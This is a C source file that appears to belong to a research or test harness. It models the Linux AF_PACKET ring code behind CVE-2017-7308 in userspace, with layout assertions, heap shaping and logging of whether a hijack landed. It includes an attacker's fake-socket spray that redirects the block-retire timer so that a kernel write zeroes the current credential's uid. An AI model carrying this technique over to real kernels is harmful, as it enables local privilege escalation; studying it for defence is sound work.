/* SPDX-License-Identifier: MIT */
/*
 * CVE-2017-7308's victim as the kernel has it (af_packet.h): the layout of
 * net/packet/internal.h, checked member by member, and the code of
 * net/packet/af_packet.c that the exploit's sockets run. Every function
 * below names the kernel function it is; what it leaves out says so.
 */
#include "af_packet.h"

#include <stdio.h>
#include <string.h>

#include "layout.h"

/* ---- the layout: net/packet/internal.h (v4.14, v4.15), x86-64 ------------------- */

_Static_assert(offsetof(struct tpacket_kbdq_core, pkbdq) == 0, "kbdq: pkbdq @0");
_Static_assert(offsetof(struct tpacket_kbdq_core, feature_req_word) == 8, "kbdq: feature_req_word @8");
_Static_assert(offsetof(struct tpacket_kbdq_core, hdrlen) == 12, "kbdq: hdrlen @12");
_Static_assert(offsetof(struct tpacket_kbdq_core, reset_pending_on_curr_blk) == 16,
	       "kbdq: reset_pending_on_curr_blk @16");
_Static_assert(offsetof(struct tpacket_kbdq_core, delete_blk_timer) == 17, "kbdq: delete_blk_timer @17");
_Static_assert(offsetof(struct tpacket_kbdq_core, kactive_blk_num) == 18, "kbdq: kactive_blk_num @18");
_Static_assert(offsetof(struct tpacket_kbdq_core, blk_sizeof_priv) == 20, "kbdq: blk_sizeof_priv @20");
_Static_assert(offsetof(struct tpacket_kbdq_core, last_kactive_blk_num) == 22,
	       "kbdq: last_kactive_blk_num @22");
_Static_assert(offsetof(struct tpacket_kbdq_core, pkblk_start) == 24, "kbdq: pkblk_start @24");
_Static_assert(offsetof(struct tpacket_kbdq_core, pkblk_end) == 32, "kbdq: pkblk_end @32");
_Static_assert(offsetof(struct tpacket_kbdq_core, kblk_size) == 40, "kbdq: kblk_size @40");
_Static_assert(offsetof(struct tpacket_kbdq_core, max_frame_len) == 44, "kbdq: max_frame_len @44");
_Static_assert(offsetof(struct tpacket_kbdq_core, knum_blocks) == 48, "kbdq: knum_blocks @48");
_Static_assert(offsetof(struct tpacket_kbdq_core, knxt_seq_num) == 56, "kbdq: knxt_seq_num @56");
_Static_assert(offsetof(struct tpacket_kbdq_core, prev) == 64, "kbdq: prev @64");
_Static_assert(offsetof(struct tpacket_kbdq_core, nxt_offset) == 72, "kbdq: nxt_offset @72");
_Static_assert(offsetof(struct tpacket_kbdq_core, skb) == 80, "kbdq: skb @80");
/* The 16 bytes in front of the timer (what a container of the timer's
 * neighbours would read as theirs). */
_Static_assert(offsetof(struct tpacket_kbdq_core, blk_fill_in_prog) == 88, "kbdq: blk_fill_in_prog @88");
_Static_assert(offsetof(struct tpacket_kbdq_core, retire_blk_tov) == 92, "kbdq: retire_blk_tov @92");
_Static_assert(offsetof(struct tpacket_kbdq_core, version) == 94, "kbdq: version @94");
_Static_assert(offsetof(struct tpacket_kbdq_core, tov_in_jiffies) == 96, "kbdq: tov_in_jiffies @96");
_Static_assert(offsetof(struct tpacket_kbdq_core, retire_blk_timer) == 104, "kbdq: retire_blk_timer @104");
/* The last member: nothing of the kbdq follows the timer. */
_Static_assert(sizeof(struct tpacket_kbdq_core) ==
		       offsetof(struct tpacket_kbdq_core, retire_blk_timer) + sizeof(struct timer_list),
	       "kbdq: retire_blk_timer is its last member");
#if TH_ATK_HAS_DATA
_Static_assert(sizeof(struct tpacket_kbdq_core) == 152, "4.14: 104 + the 48-byte timer_list");
#else
_Static_assert(sizeof(struct tpacket_kbdq_core) == 144, "4.15: 104 + timer_setup()'s 40-byte timer_list");
#endif
_Static_assert(offsetof(struct packet_ring_buffer, pending_refcnt) == 40, "ring buffer: pending_refcnt @40");
_Static_assert(offsetof(struct packet_ring_buffer, prb_bdqc) == 48, "ring buffer: prb_bdqc @48");
_Static_assert(sizeof(struct packet_ring_buffer) == 48 + sizeof(struct tpacket_kbdq_core),
	       "ring buffer: prb_bdqc is its last member");
/* packet_sock: rx_ring, then tx_ring: what an overflow past the kbdq meets. */
_Static_assert(offsetof(struct packet_sock, tx_ring) ==
		       offsetof(struct packet_sock, rx_ring) + sizeof(struct packet_ring_buffer),
	       "packet_sock: tx_ring right after rx_ring");
_Static_assert(TH_PO_TIMER_OFF % 8 == 0, "the timer is 8-byte aligned in the socket");
/* include/uapi/linux/if_packet.h */
_Static_assert(sizeof(struct tpacket_block_desc) == 48 && BLK_HDR_LEN == 48, "BLK_HDR_LEN 48");
_Static_assert(offsetof(struct tpacket_block_desc, hdr.bh1.block_status) == 8, "block_status @8");
_Static_assert(sizeof(struct tpacket3_hdr) == 48, "tpacket3_hdr: 48 bytes");
_Static_assert(TPACKET3_HDRLEN == 68, "TPACKET3_HDRLEN 68");
_Static_assert(sizeof(struct packet_sock) <= TH_AF_SOCK_SLOT, "a socket fits its kmalloc slot");

/* ---- the heap as the exploit shaped it ---------------------------------------- */

#define TH_PAGE_SIZE	4096u
#define TH_EINVAL	(-22)

union th_af_slot {
	struct packet_sock po;
	unsigned char bytes[TH_AF_SOCK_SLOT];
};

/* A block from the page allocator, then the slab page the sockets take. */
static struct {
	unsigned char block[TH_AF_BLOCK_SIZE];
	union th_af_slot slab[TH_AF_SOCKS];
} heap __attribute__((aligned(TH_PAGE_SIZE)));
/* The attacker's socket, allocated before the shaping; the sockets' own
 * ring blocks, pages elsewhere. */
static union th_af_slot attacker_slot __attribute__((aligned(64)));
static unsigned char own_blocks[TH_AF_SOCKS + 1][TH_AF_BLOCK_SIZE]
	__attribute__((aligned(TH_PAGE_SIZE)));
static unsigned int nsocks, nown, block_in_front_used;
/* A sprayed object as large as a socket (setxattr()-like; the kmalloc-128
 * spray of slab.h is too small). */
static unsigned char large_spray[2 * TH_AF_SOCK_SLOT] __attribute__((aligned(64)));

const struct packet_sock *th_af_watched;
unsigned long th_af_bystander_hits;

int th_af_is_socket(const void *p)
{
	if (p == &attacker_slot.po)
		return 1;
	for (unsigned int i = 0; i < nsocks; i++)
		if (p == &heap.slab[i].po)
			return 1;
	return 0;
}

/* sock_init_data(): the socket's callbacks, its default sk_data_ready. */
static struct packet_sock *sock_init(union th_af_slot *slot)
{
	struct packet_sock *po = &slot->po;

	memset(slot, 0, sizeof(*slot));
	po->sk.__sk_common.skc_family = 17;	/* AF_PACKET */
	po->sk.sk_data_ready = sock_def_readable;
	return po;
}

struct packet_sock *th_af_socket(void)
{
	if (nsocks == TH_AF_SOCKS)
		return NULL;
	return sock_init(&heap.slab[nsocks++]);
}

struct packet_sock *th_af_socket_attacker(void)
{
	return sock_init(&attacker_slot);
}

/* ---- include/linux/spinlock.h, as one CPU sees it ------------------------------- */

/* spin_lock(): a lock word that is not 0 is held by someone: wait. */
static void spin_lock(spinlock_t *l)
{
	while (*(volatile unsigned int *)&l->slock)
		__asm__ __volatile__("" ::: "memory");
	l->slock = 1;
}

static void spin_unlock(spinlock_t *l)
{
	*(volatile unsigned int *)&l->slock = 0;
}

/* ---- net/core/sock.c ------------------------------------------------------------- */

/*
 * sock_def_readable(): wake the socket's waiters (rcu_dereference(sk->sk_wq),
 * skwq_has_sleeper(), wake_up_interruptible_sync_poll()) and send SIGIO
 * (sk_wake_async(), only with SOCK_FASYNC in sk_flags). No task waits on
 * these sockets: nothing to wake, nothing sent. A socket_wq or flags set are
 * said; the model has no wait queue to follow.
 */
void sock_def_readable(struct sock *sk)
{
	if (sk->sk_wq || sk->sk_flags)
		th_emit("TH-NOTE: sock_def_readable(%p): sk_wq %p, sk_flags 0x%lx: waiters and SIGIO not modelled",
			(void *)sk, (void *)sk->sk_wq, sk->sk_flags);
}

/* ---- net/packet/af_packet.c (v4.14) ---------------------------------------------- */

/* The callback narrates what it does to an object that is not one of the
 * live sockets (a fake, or a corrupted .data). */
static int narrate;

/* _prb_refresh_rx_retire_blk_timer(). */
static void _prb_refresh_rx_retire_blk_timer(struct tpacket_kbdq_core *pkc)
{
	int ret = mod_timer(&pkc->retire_blk_timer, jiffies + pkc->tov_in_jiffies);

	if (narrate)
		th_emit("TH-NOTE: prb_retire_rx_blk_timer_expired: re-armed the timer at %p: mod_timer(jiffies + %lu) = %d",
			(void *)&pkc->retire_blk_timer, pkc->tov_in_jiffies, ret);
	pkc->last_kactive_blk_num = pkc->kactive_blk_num;
}

static void prb_thaw_queue(struct tpacket_kbdq_core *pkc)
{
	pkc->reset_pending_on_curr_blk = 0;
}

/*
 * prb_open_block(). The v4.14 body, timestamps from the model's jiffies
 * (getnstimeofday()'s value does not matter here). Older kernels WARN and
 * BUG() first on a block not TP_STATUS_KERNEL; no path here opens one.
 */
static void prb_open_block(struct tpacket_kbdq_core *pkc1, struct tpacket_block_desc *pbd1)
{
	struct tpacket_hdr_v1 *h1 = &pbd1->hdr.bh1;

	h1->seq_num = pkc1->knxt_seq_num++;
	h1->num_pkts = 0;
	h1->blk_len = (uint32_t)BLK_PLUS_PRIV(pkc1->blk_sizeof_priv);
	h1->ts_first_pkt.ts_sec = (unsigned int)jiffies;
	h1->ts_first_pkt.ts_nsec = 0;
	pkc1->pkblk_start = (char *)pbd1;
	pkc1->nxt_offset = pkc1->pkblk_start + BLK_PLUS_PRIV(pkc1->blk_sizeof_priv);
	h1->offset_to_first_pkt = (uint32_t)BLK_PLUS_PRIV(pkc1->blk_sizeof_priv);
	pbd1->offset_to_priv = BLK_HDR_LEN;
	pbd1->version = pkc1->version;
	pkc1->prev = pkc1->nxt_offset;
	pkc1->pkblk_end = pkc1->pkblk_start + pkc1->kblk_size;
	prb_thaw_queue(pkc1);
	_prb_refresh_rx_retire_blk_timer(pkc1);
}

/* prb_flush_block(): x86 has no flush_dcache_page(); the status store. */
static void prb_flush_block(struct tpacket_kbdq_core *pkc1, struct tpacket_block_desc *pbd1,
			    uint32_t status)
{
	(void)pkc1;
	pbd1->hdr.bh1.block_status = status;
	if (narrate)
		th_emit("TH-NOTE: prb_flush_block: block_status 0x%x written at %p", status,
			(void *)&pbd1->hdr.bh1.block_status);
}

/* What an address the callback writes through is, for the narration. */
static const char *what_is(const void *p)
{
	const char *n = victim_addr_name((uintptr_t)p);

	if ((uintptr_t)p == (uintptr_t)&current_cred + offsetof(struct cred, uid))
		return "current_cred.uid";
	return n ? n : "not the cred";
}

/*
 * prb_close_block(): close the current block. Through pkc->prev, the last
 * frame's header: last_pkt->tp_next_offset = 0, four zero bytes wherever
 * prev points; the block's status; then the socket's sk_data_ready, an
 * indirect call of type void (*)(struct sock *) through the socket; then
 * the next block number.
 */
static void prb_close_block(struct tpacket_kbdq_core *pkc1, struct tpacket_block_desc *pbd1,
			    struct packet_sock *po, unsigned int stat)
{
	uint32_t status = TP_STATUS_USER | stat;
	struct tpacket3_hdr *last_pkt;
	struct tpacket_hdr_v1 *h1 = &pbd1->hdr.bh1;
	struct sock *sk = &po->sk;

	if (po->stats.stats3.tp_drops)
		status |= TP_STATUS_LOSING;

	last_pkt = (struct tpacket3_hdr *)pkc1->prev;
	last_pkt->tp_next_offset = 0;
	if (narrate)
		th_emit("TH-NOTE: prb_close_block: last_pkt->tp_next_offset = 0 through pkc->prev = %p (%s); current uid now %u",
			(void *)last_pkt, what_is(last_pkt), current_cred.uid);

	/* Get the ts of the last pkt */
	if (h1->num_pkts) {
		h1->ts_last_pkt.ts_sec = last_pkt->tp_sec;
		h1->ts_last_pkt.ts_nsec = last_pkt->tp_nsec;
	} else {
		h1->ts_last_pkt.ts_sec = (unsigned int)jiffies;
		h1->ts_last_pkt.ts_nsec = 0;
	}

	/* Flush the block */
	prb_flush_block(pkc1, pbd1, status);

	if (narrate)
		th_emit("TH-NOTE: prb_close_block: sk->sk_data_ready(sk) through the socket at %p: 0x%lx%s",
			(void *)sk, (unsigned long)(uintptr_t)sk->sk_data_ready,
			(uintptr_t)sk->sk_data_ready == (uintptr_t)&sock_def_readable ?
				" (sock_def_readable)" : "");
	sk->sk_data_ready(sk);

	pkc1->kactive_blk_num = GET_NEXT_PRB_BLK_NUM(pkc1);
}

/* prb_freeze_queue(). */
static void prb_freeze_queue(struct tpacket_kbdq_core *pkc, struct packet_sock *po)
{
	pkc->reset_pending_on_curr_blk = 1;
	po->stats.stats3.tp_freeze_q_cnt++;
}

/* prb_dispatch_next_block(): open the next block, or freeze the queue when
 * user space still holds it. */
static void *prb_dispatch_next_block(struct tpacket_kbdq_core *pkc, struct packet_sock *po)
{
	struct tpacket_block_desc *pbd = GET_CURR_PBLOCK_DESC_FROM_CORE(pkc);

	if (TP_STATUS_USER & pbd->hdr.bh1.block_status) {
		prb_freeze_queue(pkc, po);
		return NULL;
	}
	prb_open_block(pkc, pbd);
	return (void *)pkc->nxt_offset;
}

/* prb_retire_current_block(): close the current block if the kernel owns
 * it. (The timer's call passes TP_STATUS_BLK_TMO: no wait for a copy.) */
static void prb_retire_current_block(struct tpacket_kbdq_core *pkc, struct packet_sock *po,
				     unsigned int status)
{
	struct tpacket_block_desc *pbd = GET_CURR_PBLOCK_DESC_FROM_CORE(pkc);

	if (TP_STATUS_KERNEL == pbd->hdr.bh1.block_status) {
		if (!(status & TP_STATUS_BLK_TMO)) {
			while (*(volatile int *)&pkc->blk_fill_in_prog.counter)
				__asm__ __volatile__("" ::: "memory");
		}
		prb_close_block(pkc, pbd, po, status);
	}
}

static int prb_curr_blk_in_use(struct tpacket_block_desc *pbd)
{
	return TP_STATUS_USER & pbd->hdr.bh1.block_status;
}

static int prb_queue_frozen(struct tpacket_kbdq_core *pkc)
{
	return pkc->reset_pending_on_curr_blk;
}

/* Is fn the function the attacker aims at, and v its argument? */
static int aimed_here(void)
{
	return th_intent.target && !strcmp(th_intent.target, "prb_retire_rx_blk_timer_expired");
}

/*
 * prb_retire_rx_blk_timer_expired() (v4.14; v4.15 takes the timer and
 * from_timer()s it). Whatever object it is handed, it does what it does to
 * a socket: lock its receive queue, read its ring state, and close the
 * current block (prb_close_block()'s writes and its sk_data_ready call),
 * freeze or open the next one, and re-arm the object's own timer.
 * Instrumentation: on its own socket, TH-LEGIT intended=1 for the socket a
 * cell watches (a count for the others); on an object that is not a live
 * socket, TH-LEGIT intended=0 first when the attacker did not aim at it,
 * and TH-TARGET when it did, after it returned (what it received, chosen
 * when that is the attacker's object): the kernel's code earns the label.
 */
static void retire_rx_blk_timer_expired(struct packet_sock *po, const char *argname,
					unsigned long arg)
{
	struct timer_base *base = th_this_base();
	int live = th_af_is_socket(po);
	int own = live && base && base->running_timer == (void *)&po->rx_ring.prb_bdqc.retire_blk_timer;
	int aimed = !own && aimed_here();
	struct tpacket_kbdq_core *pkc;
	struct tpacket_block_desc *pbd;
	unsigned int frozen;

	if (own) {
		if (!th_af_watched || po == th_af_watched) {
			th_legit_hits++;
			th_emit("TH-LEGIT: intended=1 packet_sock=%p retire_blk_timer on its own socket %s=0x%lx",
				(void *)po, argname, arg);
		} else {
			th_af_bystander_hits++;
		}
	} else if (!aimed) {
		th_stray_hits++;
		th_emit("TH-LEGIT: intended=0 %s=0x%lx (%s): the callback works on it anyway", argname,
			arg, live ? "another socket, not the one whose timer fired" : "not a socket");
	}
	narrate = !own;

	pkc = GET_PBDQC_FROM_RB(&po->rx_ring);
	spin_lock(&po->sk.sk_receive_queue.lock);

	frozen = prb_queue_frozen(pkc);
	pbd = GET_CURR_PBLOCK_DESC_FROM_CORE(pkc);

	if (pkc->delete_blk_timer)
		goto out;

	/* We only need to plug the race when the block is partially filled. */
	if (pbd->hdr.bh1.num_pkts) {
		while (*(volatile int *)&pkc->blk_fill_in_prog.counter)
			__asm__ __volatile__("" ::: "memory");
	}

	if (pkc->last_kactive_blk_num == pkc->kactive_blk_num) {
		if (!frozen) {
			if (!pbd->hdr.bh1.num_pkts) {
				/* An empty block. Just refresh the timer. */
				goto refresh_timer;
			}
			prb_retire_current_block(pkc, po, TP_STATUS_BLK_TMO);
			if (!prb_dispatch_next_block(pkc, po))
				goto refresh_timer;
			else
				goto out;
		} else {
			/* Case 1. Queue was frozen because user-space was
			 * lagging behind. */
			if (prb_curr_blk_in_use(pbd)) {
				goto refresh_timer;
			} else {
				/* Case 2. queue was frozen, user-space caught up,
				 * now the link went idle && the timer fired. */
				prb_open_block(pkc, pbd);
				goto out;
			}
		}
	}

refresh_timer:
	_prb_refresh_rx_retire_blk_timer(pkc);

out:
	spin_unlock(&po->sk.sk_receive_queue.lock);
	narrate = 0;
	if (aimed) {
		th_target_hits++;
		th_emit("TH-TARGET: name=prb_retire_rx_blk_timer_expired chosen=%d %s=0x%lx (%s): returned; current uid %u",
			th_intent.kind == TH_INTENT_VALUE && arg == th_intent.value, argname, arg,
			live ? "another socket, not the one whose timer fired" : "not a socket",
			current_cred.uid);
	}
}

#if defined(TH_ATK_LEGACY)
void prb_retire_rx_blk_timer_expired(unsigned long data)
{
	retire_rx_blk_timer_expired((struct packet_sock *)data, "data", data);
}
#else
void prb_retire_rx_blk_timer_expired(struct timer_list *t)
{
	struct packet_sock *po = from_timer(po, t, rx_ring.prb_bdqc.retire_blk_timer);

	retire_rx_blk_timer_expired(po, "timer", (unsigned long)t);
}
#endif

/*
 * prb_setup_retire_blk_timer(): v4.14's prb_init_blk_timer() (init_timer(),
 * .data = the socket, .function, .expires = jiffies); v4.15's timer_setup()
 * (the rc3 shim's: .data = the timer).
 */
static void prb_setup_retire_blk_timer(struct packet_sock *po)
{
	struct tpacket_kbdq_core *pkc = GET_PBDQC_FROM_RB(&po->rx_ring);

#if defined(TH_ATK_LEGACY)
	setup_timer(&pkc->retire_blk_timer, prb_retire_rx_blk_timer_expired, (unsigned long)po);
#else
	timer_setup(&pkc->retire_blk_timer, prb_retire_rx_blk_timer_expired, 0);
#endif
	pkc->retire_blk_timer.expires = jiffies;
}

/* init_prb_bdqc(). msecs_to_jiffies() at the model's HZ, 1000. */
static void init_prb_bdqc(struct packet_sock *po, struct packet_ring_buffer *rb, struct pgv *pg_vec,
			  const struct tpacket_req3 *req)
{
	struct tpacket_kbdq_core *p1 = GET_PBDQC_FROM_RB(rb);
	struct tpacket_block_desc *pbd;

	memset(p1, 0x0, sizeof(*p1));

	p1->knxt_seq_num = 1;
	p1->pkbdq = pg_vec;
	pbd = (struct tpacket_block_desc *)pg_vec[0].buffer;
	p1->pkblk_start = pg_vec[0].buffer;
	p1->kblk_size = (int)req->tp_block_size;
	p1->knum_blocks = req->tp_block_nr;
	p1->hdrlen = TPACKET3_HDRLEN;
	p1->version = (unsigned short)po->tp_version;
	p1->last_kactive_blk_num = 0;
	po->stats.stats3.tp_freeze_q_cnt = 0;
	p1->retire_blk_tov = (unsigned short)(req->tp_retire_blk_tov ? req->tp_retire_blk_tov :
								       DEFAULT_PRB_RETIRE_TOV);
	p1->tov_in_jiffies = p1->retire_blk_tov;
	p1->blk_sizeof_priv = (unsigned short)req->tp_sizeof_priv;
	p1->max_frame_len = (unsigned int)(p1->kblk_size - (int)BLK_PLUS_PRIV(p1->blk_sizeof_priv));
	p1->feature_req_word = req->tp_feature_req_word;
	prb_setup_retire_blk_timer(po);
	prb_open_block(p1, pbd);
}

int th_af_set_rx_ring(struct packet_sock *po, const struct tpacket_req3 *req, int in_front_of_slab)
{
	struct packet_ring_buffer *rb = &po->rx_ring;
	unsigned int frames_per_block;

	/* packet_setsockopt(PACKET_VERSION): tp_hdrlen TPACKET3_HDRLEN. */
	po->tp_version = TPACKET_V3;
	/*
	 * packet_set_ring()'s checks as the CVE's kernels have them (v4.8 -
	 * v4.10; 2b6867c2ce76 in v4.11 compares the 64-bit BLK_PLUS_PRIV()
	 * with tp_block_size instead): BLK_PLUS_PRIV() of the 32-bit
	 * tp_sizeof_priv wraps, so the difference is positive for a value
	 * with bit 31 set, and blk_sizeof_priv keeps its low 16 bits.
	 */
	if ((int)req->tp_block_size <= 0 || req->tp_block_size & (TH_PAGE_SIZE - 1))
		return TH_EINVAL;
	if ((int)(req->tp_block_size - (unsigned int)BLK_PLUS_PRIV(req->tp_sizeof_priv)) <= 0)
		return TH_EINVAL;
	if (req->tp_frame_size < TPACKET3_HDRLEN || req->tp_frame_size & (TPACKET_ALIGNMENT - 1))
		return TH_EINVAL;
	frames_per_block = req->tp_block_size / req->tp_frame_size;
	if (!frames_per_block || frames_per_block * req->tp_block_nr != req->tp_frame_nr)
		return TH_EINVAL;
	/* The model's rings have one block of one page. */
	if (req->tp_block_nr != 1 || req->tp_block_size != TH_AF_BLOCK_SIZE)
		return TH_EINVAL;
	/* alloc_pg_vec(): zeroed pages. */
	if (in_front_of_slab) {
		if (block_in_front_used++)
			return TH_EINVAL;
		po->pg_vec_own[0].buffer = (char *)heap.block;
	} else {
		if (nown == TH_AF_SOCKS + 1)
			return TH_EINVAL;
		po->pg_vec_own[0].buffer = (char *)own_blocks[nown++];
	}
	memset(po->pg_vec_own[0].buffer, 0, TH_AF_BLOCK_SIZE);
	rb->pg_vec = po->pg_vec_own;
	rb->frames_per_block = frames_per_block;
	rb->frame_size = req->tp_frame_size;
	rb->frame_max = req->tp_frame_nr - 1;
	rb->pg_vec_len = req->tp_block_nr;
	init_prb_bdqc(po, rb, rb->pg_vec, req);
	return 0;
}

void *th_af_tpacket_rcv(struct packet_sock *po, const void *frame, size_t len, unsigned int maclen)
{
	struct tpacket_kbdq_core *pkc = GET_PBDQC_FROM_RB(&po->rx_ring);
	/* h.raw: the ring's current frame, BLK_PLUS_PRIV(blk_sizeof_priv)
	 * past the block's start (prb_open_block()'s nxt_offset). */
	char *h_raw = pkc->nxt_offset;
	char *to = h_raw + th_af_macoff(maclen);

	/* skb_copy_bits(skb, 0, h.raw + macoff, snaplen): nothing bounds it
	 * by the block once packet_set_ring() let tp_sizeof_priv through.
	 * (Before it, tpacket_rcv() fills the struct tpacket3_hdr at h.raw and
	 * the struct sockaddr_ll after it: not modelled.) */
	memcpy(to, frame, len);
	return to;
}

/* ---- the attacker's fake socket (data:fake-object) ------------------------------- */

uintptr_t th_af_spray_fake_socket(uintptr_t zero_at)
{
	/* The attacker's image of its fake: a packet_sock (pahole's default
	 * layout; the timer in its own mirror, layout.h), a pgv and a block
	 * descriptor after it, addresses as numbers. */
	struct {
		struct packet_sock po;
		struct pgv pgv;
		struct tpacket_block_desc bd;
	} fake;
	uintptr_t at = (uintptr_t)large_spray;
	struct tpacket_kbdq_core *pkc = &fake.po.rx_ring.prb_bdqc;
	atk_timer t;

	_Static_assert(sizeof(fake) <= sizeof(large_spray), "the fake fits the spray");
	memset(&fake, 0, sizeof(fake));
	/* sk_receive_queue.lock 0 (free), no wait queue, no flags, the
	 * socket's default callback. */
	fake.po.sk.sk_data_ready = (void (*)(struct sock *))(uintptr_t)&sock_def_readable;
	/* One block, the current one, the kernel's (TP_STATUS_KERNEL) with a
	 * frame in it: the timer's call closes it (prb_close_block()). */
	pkc->pkbdq = (struct pgv *)(at + offsetof(__typeof__(fake), pgv));
	fake.pgv.buffer = (char *)(at + offsetof(__typeof__(fake), bd));
	fake.bd.hdr.bh1.block_status = TP_STATUS_KERNEL;
	fake.bd.hdr.bh1.num_pkts = 1;
	pkc->knum_blocks = 1;
	pkc->kblk_size = TH_AF_BLOCK_SIZE;
	/* The last frame's header: where prb_close_block() writes 0. */
	pkc->prev = (char *)zero_at;
	pkc->tov_in_jiffies = 1000;
	memset(&t, 0, sizeof(t));
	t.function = (uintptr_t)&prb_retire_rx_blk_timer_expired;
#if defined(TH_ATK_LEGACY)
	t.data = at;
#elif defined(TH_ATK_TRANSITIONAL)
	t.data = at + TH_PO_TIMER_OFF;
#endif
	memcpy((unsigned char *)&fake + TH_PO_TIMER_OFF, &t, sizeof(t));
	memcpy(large_spray, &fake, sizeof(fake));
	return at;
}

/* ---- did the write land? ----------------------------------------------------------- */

#define KBDQ_OFF	offsetof(struct packet_sock, rx_ring.prb_bdqc)
#define SNAP_BASE	(KBDQ_OFF + TH_AF_SNAP_FROM)

void th_af_snapshot(const struct packet_sock *po, struct th_af_snapshot *s)
{
	th_peek(s->bytes, (const unsigned char *)po + SNAP_BASE, sizeof(s->bytes));
}

#define PO_FIELD(member, label)                                                          \
	{ label, offsetof(struct packet_sock, member) - SNAP_BASE,                       \
	  sizeof(((struct packet_sock *)0)->member) }
static const struct af_field {
	const char *label;
	size_t off, size;
} af_fields[] = {
	PO_FIELD(rx_ring.prb_bdqc.tov_in_jiffies, "tov_in_jiffies"),
	PO_FIELD(rx_ring.prb_bdqc.retire_blk_timer.entry.next, "entry.next"),
	PO_FIELD(rx_ring.prb_bdqc.retire_blk_timer.entry.pprev, "entry.pprev"),
	PO_FIELD(rx_ring.prb_bdqc.retire_blk_timer.expires, "expires"),
	PO_FIELD(rx_ring.prb_bdqc.retire_blk_timer.function, "function"),
#if TH_ATK_HAS_DATA
	PO_FIELD(rx_ring.prb_bdqc.retire_blk_timer.data, "data"),
#endif
	PO_FIELD(rx_ring.prb_bdqc.retire_blk_timer.flags, "flags"),
	PO_FIELD(tx_ring.pg_vec, "tx_ring.pg_vec"),
	PO_FIELD(tx_ring.head, "tx_ring.head"),
	PO_FIELD(tx_ring.frames_per_block, "tx_ring.frames_per_block"),
	PO_FIELD(tx_ring.frame_size, "tx_ring.frame_size"),
	PO_FIELD(tx_ring.frame_max, "tx_ring.frame_max"),
	PO_FIELD(tx_ring.pg_vec_order, "tx_ring.pg_vec_order"),
	PO_FIELD(tx_ring.pg_vec_pages, "tx_ring.pg_vec_pages"),
};
#define NFIELDS (sizeof(af_fields) / sizeof(af_fields[0]))
_Static_assert(offsetof(struct packet_sock, tx_ring.pg_vec_pages) + sizeof(unsigned int) - SNAP_BASE <=
		       sizeof(((struct th_af_snapshot *)0)->bytes),
	       "the snapshot covers what it reports");

static uintptr_t field_value(const struct th_af_snapshot *s, const char *label, int *found)
{
	uintptr_t v = 0;

	*found = 0;
	for (size_t i = 0; i < NFIELDS; i++)
		if (!strcmp(af_fields[i].label, label)) {
			memcpy(&v, s->bytes + af_fields[i].off,
			       af_fields[i].size < sizeof(v) ? af_fields[i].size : sizeof(v));
			*found = 1;
		}
	return v;
}

static uintptr_t af_value(const void *snap, const char *label)
{
	int found;

	return field_value(snap, label, &found);
}

void th_af_report_landed(const struct packet_sock *po, const struct th_af_snapshot *before,
			 const struct th_goal *goal)
{
	struct th_af_snapshot after;
	char changed[300] = "";
	int other = 0;
	size_t len;

	th_af_snapshot(po, &after);
	for (size_t i = 0; i < NFIELDS; i++) {
		const struct af_field *f = &af_fields[i];

		if (memcmp(before->bytes + f->off, after.bytes + f->off, f->size)) {
			len = strlen(changed);
			snprintf(changed + len, sizeof(changed) - len, "%s%s", len ? " " : "", f->label);
		}
	}
	for (size_t b = 0; b < sizeof(after.bytes); b++) {
		int in_field = 0;

		for (size_t i = 0; i < NFIELDS; i++)
			if (b >= af_fields[i].off && b < af_fields[i].off + af_fields[i].size)
				in_field = 1;
		if (!in_field && before->bytes[b] != after.bytes[b])
			other = 1;
	}
	len = strlen(changed);
	if (other)
		snprintf(changed + len, sizeof(changed) - len, "%spadding-or-other", len ? " " : "");
	if (!changed[0])
		snprintf(changed, sizeof(changed), "nothing");

	th_goal_landed(goal, changed, "missed (no buffer in front of retire_blk_timer: the frame starts 6 "
		       "bytes before it, in tov_in_jiffies)", 0, af_value, &after);
}
